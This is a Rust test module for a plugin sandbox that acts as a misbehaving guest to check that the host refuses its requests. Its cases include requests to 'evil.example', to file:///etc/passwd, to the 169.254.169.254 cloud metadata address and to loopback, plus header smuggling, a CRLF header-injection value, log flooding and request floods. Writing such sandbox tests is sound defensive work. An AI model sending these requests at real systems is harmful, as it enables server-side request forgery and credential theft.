//! Misbehaviour towards the host's imports. What the host said comes back as a failure's text, so that a test can read it.

use substratus_plugin::{
    Failure, http,
    http::{HostHttp, Http, Method, Request},
    loader::PlanPage,
    log,
};

use crate::answers;

const GRANTED: &str = "https://hub.example/";

/// Calls the host as `how` says; `None` where it names something else.
pub(crate) fn call(how: &str) -> Option<Result<PlanPage, Failure>> {
    Some(match how {
        "log-flood" => Ok(flood(100_000, "flood")),
        "log-long" => Ok(flood(1, &"x".repeat(3 << 20))),
        "log-too-long" => Ok(flood(1, &"x".repeat(64 << 20))),
        "log-control" => Ok(flood(1, "first\nsecond \u{1b}[31mred\u{1b}[0m \u{0} end")),
        "http-outside" => send(&http::get("https://evil.example/", None)),
        "http-userinfo" => send(&http::get("https://hub.example@evil.example/", None)),
        "http-scheme" => send(&http::get("file:///etc/passwd", None)),
        "http-metadata" => send(&http::get("http://169.254.169.254/latest/meta-data/", None)),
        "http-loopback" => send(&http::get("http://127.0.0.1:1/", None)),
        "http-mapped" => send(&http::get("http://[::ffff:169.254.169.254]/", None)),
        "http-header" => send(&with_header("Authorization", "Bearer mine")),
        "http-cookie" => send(&with_header("cookie", "a=b")),
        "http-host" => send(&with_header("host", "evil.example")),
        "http-proxy" => send(&with_header("Proxy-Authorization", "Basic x")),
        "http-split" => send(&with_header("x-a", "b\r\nAuthorization: Bearer mine")),
        "http-secret" => send(&http::get(GRANTED, Some("not-mine"))),
        "http-secret-elsewhere" => send(&http::get("https://evil.example/", Some("hub"))),
        "http-body" => send(&Request { method: Method::Post, body: Some(vec![b'x'; 3 << 20]), ..http::get(GRANTED, None) }),
        "http-flood" => requests(1000),
        _ => return None,
    })
}

fn flood(lines: usize, line: &str) -> PlanPage {
    for _ in 0..lines {
        log::write(log::Level::Info, line);
    }
    answers::page(vec![answers::file("a")])
}

fn with_header(name: &str, value: &str) -> Request {
    let mut request = http::get(GRANTED, None);
    request.headers.push((name.to_owned(), value.to_owned()));
    request
}

/// The host's error, or the answer's status and start, as an `internal` failure.
fn send(request: &Request) -> Result<PlanPage, Failure> {
    let said = match HostHttp.send(request) {
        Ok(response) => format!("answered {}", response.status),
        Err(error) => format!("{error:?}"),
    };
    Err(Failure::Internal(said))
}

/// Goes on after a refusal, as a bad guest would.
fn requests(count: usize) -> Result<PlanPage, Failure> {
    let mut last = String::new();
    let mut answered = 0;
    for n in 0..count {
        match HostHttp.send(&http::get(format!("{GRANTED}{n}"), None)) {
            Ok(_) => answered += 1,
            Err(error) => last = format!("{error:?}"),
        }
    }
    Err(Failure::Internal(format!("{answered} answered, last refusal: {last}")))
}
